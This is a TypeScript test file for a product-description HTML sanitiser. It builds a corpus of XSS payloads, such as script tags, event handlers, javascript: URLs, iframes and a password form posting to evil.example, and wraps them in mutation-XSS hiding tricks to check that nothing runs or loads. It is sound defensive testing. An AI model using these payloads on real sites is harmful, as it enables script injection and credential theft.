import createDOMPurify from 'dompurify'
import { JSDOM } from 'jsdom'
import { expect, test } from 'vitest'

import { testAll } from '#tests/support/check-each.ts'
import { MAX_GROWTH, measureGrowth } from '#tests/support/cpu-growth.ts'

import { sanitizeDescription } from './description.service.ts'

// Foreign HTML as a partner's sellers might write it: ways to run something times places to hide it.

const toPicture = (address: string) =>
  address.startsWith('https://ae01.alicdn.com/') ? `/media/external/seal/${address.length}` : null
const safe = (html: string) => sanitizeDescription(html, toPicture)

const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\t>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ae01.alicdn.com/kf/a.jpg" onload=alert(1) srcset="https://evil.example/a.jpg 2x">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="javascript:alert(1)">',
  '<img src="/api/logout/">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" target=_top>x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<video autoplay poster="https://evil.example/a.jpg"><source src="https://evil.example/a.mp4" onerror=alert(1)></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css";*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Pay</button></form>',
  '<div style="background:url(https://evil.example/a.gif);position:fixed;inset:0">x</div>',
  '<p onclick=alert(1) onmouseover="alert(1)" autofocus tabindex=1 onfocus=alert(1)>x</p>',
  '<table background="https://evil.example/a.gif"><tr><td onclick=alert(1)>x</td></tr></table>',
  '<input type=image src="https://evil.example/a.gif" onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<portal src="https://evil.example"></portal>',
  '<body onload=alert(1)>',
  '<html onmouseenter=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<picture><source srcset="https://evil.example/a.jpg"><img src=x onerror=alert(1)></picture>',
] as const

const HIDING: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `<noscript><p title="</noscript>${attack}">`,
  (attack) => `<xmp>${attack}</xmp><xmp><p title="</xmp>${attack}">`,
  (attack) => `<math><mtext><table><mglyph><style><!--</style>${attack}`,
  (attack) => `<svg></p><style><a id="</style>${attack}">`,
  (attack) => `<!--><p>${attack}--!>${attack}`,
  (attack) => `<textarea></textarea>${attack}<title>${attack}</title>`,
  (attack) => `${'<div>'.repeat(60)}${attack}`,
]
const CORPUS = ATTACKS.flatMap((attack) => HIDING.map((hide) => hide(attack)))

const DOM = new JSDOM('')
const purify = createDOMPurify(DOM.window)

/** What a browser makes of the text: every element with its attributes. */
function readElements(html: string) {
  const { body } = new DOM.window.DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html')
  return [...body.querySelectorAll('*')].map((element) => ({
    name: element.localName,
    attributes: Object.fromEntries([...element.attributes].map(({ name, value }) => [name, value])),
  }))
}

const HARMLESS =
  /^(?:p|br|hr|div|span|ul|ol|li|blockquote|h2|h3|h4|strong|b|em|i|u|s|sub|sup|small|table|caption|thead|tbody|tr|th|td|img)$/

test('the corpus of hostile texts is large', () => {
  expect(new Set(CORPUS).size).toBeGreaterThanOrEqual(200)
})

testAll(CORPUS)('of every hostile description nothing runs and nothing loads from outside', (hostile) => {
  const html = safe(hostile)
  for (const { name, attributes } of readElements(html)) {
    expect(name).toMatch(HARMLESS)
    if (name === 'img') expect(attributes['src']).toMatch(/^\/media\/external\/seal\/\d+$/)
    const allowed = name === 'img' ? ['src', 'alt', 'loading', 'style'] : ['colspan', 'rowspan']
    expect(Object.keys(attributes).filter((each) => !allowed.includes(each))).toEqual([])
  }
  // A second sanitiser, by other people, has nothing to take away (security row 38).
  const again = purify.sanitize(html, { FORCE_BODY: true })
  expect(readElements(again)).toEqual(readElements(html))
})

test('text, tables and pictures of the partner stay, and pictures scale to fit', () => {
  const html = safe(
    '<h1>Pads</h1><p>For <b>two</b> wheels</p><table width=2000><tr><td colspan=2 bgcolor=red>Set</td></tr></table><img src="https://ae01.alicdn.com/kf/a.jpg" width=4000 style="width:4000px"><a href="https://x.example">More</a>',
  )
  expect(html).toBe(
    '<h2>Pads</h2><p>For <b>two</b> wheels</p><table><tr><td colspan="2">Set</td></tr></table><img src="/media/external/seal/32" alt="" loading="lazy" style="max-width:100%;height:auto" />More',
  )
})

test('a deeply nested text of 200 kB is sanitized quickly', () => {
  for (const piece of ['<div>', '<b><i>', '<img src=x onerror=y>', '<', '&#', '<!--', '"><', '<p title="'])
    expect(measureGrowth(safe, piece, 200_000), piece).toBeLessThan(MAX_GROWTH)
})

test('only the text after ten thousand tags is removed', () => {
  expect(safe(`${'<br>'.repeat(9_999)}last<br>`)).toMatch(/last<br \/>$/)
  expect(safe(`${'<br>'.repeat(10_000)}last<br>gone`)).toMatch(/<br \/>last$/)
})

test('at most forty pictures stay', () => {
  expect(safe('<img src="https://ae01.alicdn.com/kf/a.jpg">'.repeat(60)).match(/<img/g)).toHaveLength(40)
})
